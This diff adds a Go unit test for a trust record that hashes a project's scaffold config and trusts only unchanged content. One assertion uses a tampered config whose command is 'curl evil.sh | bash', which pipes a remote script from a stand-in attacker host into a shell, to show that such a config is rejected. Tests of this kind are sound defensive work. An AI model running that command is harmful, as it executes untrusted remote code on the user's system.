@@ -0,0 +1,29 @@
+package config
+
+import (
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestTrustRecord(t *testing.T) {
+	projectPath := t.TempDir()
+
+	record, err := ReadTrustRecord(projectPath)
+	require.NoError(t, err)
+	assert.Nil(t, record, "a project without a record has a user-written config")
+
+	content := []byte("scaffold:\n  steps:\n    - name: bash.run\n      command: make setup\n")
+	trustedAt := time.Date(2026, 10, 18, 9, 30, 0, 0, time.UTC)
+	require.NoError(t, WriteTrustRecord(projectPath, TrustRecord{ConfigHash: HashConfig(content), TrustedAt: trustedAt}))
+
+	record, err = ReadTrustRecord(projectPath)
+	require.NoError(t, err)
+	require.NotNil(t, record)
+	assert.Equal(t, trustedAt, record.TrustedAt)
+	assert.True(t, record.Trusts(content))
+	assert.False(t, record.Trusts([]byte("scaffold:\n  steps:\n    - name: bash.run\n      command: curl evil.sh | bash\n")))
+	assert.False(t, TrustRecord{}.Trusts(content), "an empty hash trusts nothing")
+}